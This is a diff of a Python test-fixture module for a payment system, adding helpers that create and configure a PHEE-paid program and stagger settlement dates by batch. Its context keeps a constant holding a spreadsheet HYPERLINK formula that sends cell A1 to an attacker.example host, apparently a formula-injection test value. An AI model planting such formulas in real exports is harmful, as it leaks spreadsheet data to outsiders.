@@ -10,7 +10,7 @@ from __future__ import annotations
 
 from collections.abc import Callable
 from dataclasses import dataclass
-from datetime import UTC, date, datetime
+from datetime import UTC, date, datetime, timedelta
 from decimal import Decimal
 
 from sqlalchemy import select
@@ -18,6 +18,7 @@ from sqlalchemy.orm import Session
 
 from g2p_payment_phee.payments import service
 from g2p_payment_phee.payments.cancel import cancel_payments
+from g2p_payment_phee.payments.config_service import configure_manager
 from g2p_payment_phee.payments.models import Payment, PaymentBatch
 from g2p_payment_phee.payments.reconcile import Outcome as Result
 from g2p_payment_phee.payments.reconcile import reconcile_payments, refresh_batches
@@ -28,13 +29,13 @@ from g2p_payment_phee.payments.states import (
     set_batch_state,
 )
 from g2p_payment_phee.programs import service as programs
-from g2p_payment_phee.programs.models import Cycle, Entitlement, Program
+from g2p_payment_phee.programs.models import Cycle, Entitlement, ManagerKind, Program, TargetType
 from g2p_payment_phee.registry.models import Phone, Registrant
 from g2p_payment_phee.users.models import User
 from tests import factories
 
 FORMULA_NAME = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'
-PAID_AT = datetime(2027, 1, 15, 9, 30, tzinfo=UTC)
+PAID_AT = datetime(2027, 1, 15, 9, 30, tzinfo=UTC)  # when batch 1 settled; batch n a day later
 
 
 @dataclass(frozen=True)
@@ -66,6 +67,38 @@ def every_outcome(
     _settle(session, admin, retry, PaymentStatus.PAID, PaymentStatus.FAILED)
     session.flush()
     return EveryOutcome(cycle, _batches(session, cycle))
+
+
+def paid_program(session: Session, admin: User, currency: str = "KES") -> Program:
+    """A program paid through PHEE to phone numbers ("Grant in KES")."""
+    return programs.create_program(
+        session,
+        admin,
+        name=f"Grant in {currency}",
+        currency=currency,
+        target_type=TargetType.INDIVIDUAL,
+        manager_kind=ManagerKind.PHEE,
+    )
+
+
+def phee_settings(session: Session, admin: User, program: Program) -> Callable[..., None]:
+    """Configure the program's PHEE manager (phone payees) now, and again with more settings
+    each time the answer is called."""
+
+    def configure(**settings: object) -> None:
+        values = {"tenant_id": "gorilla", "payee_id_type": "phone", **settings}
+        configure_manager(session, admin, program, ManagerKind.PHEE, values)
+
+    configure()
+    return configure
+
+
+def every_outcome_cycle(session: Session, admin: User, approver: User) -> Cycle:
+    """The cycle described above, in a program of its own."""
+    program = paid_program(session, admin)
+    return every_outcome(
+        session, admin, approver, program, phee_settings(session, admin, program)
+    ).cycle
 
 
 def _approved(session: Session, admin: User, approver: User, program: Program) -> Cycle:
@@ -117,7 +150,7 @@ def _settle(session: Session, admin: User, batch: PaymentBatch, *statuses: Payme
             Decimal(100) if status is PaymentStatus.PAID else None,
             None if status is PaymentStatus.PAID else f"Closed ({batch.sequence})",
             f"T-{batch.sequence}-{row}",
-            PAID_AT,
+            PAID_AT + timedelta(days=batch.sequence - 1),
         )
         for row, (pid, status) in enumerate(zip(ids, statuses, strict=False))
     ]
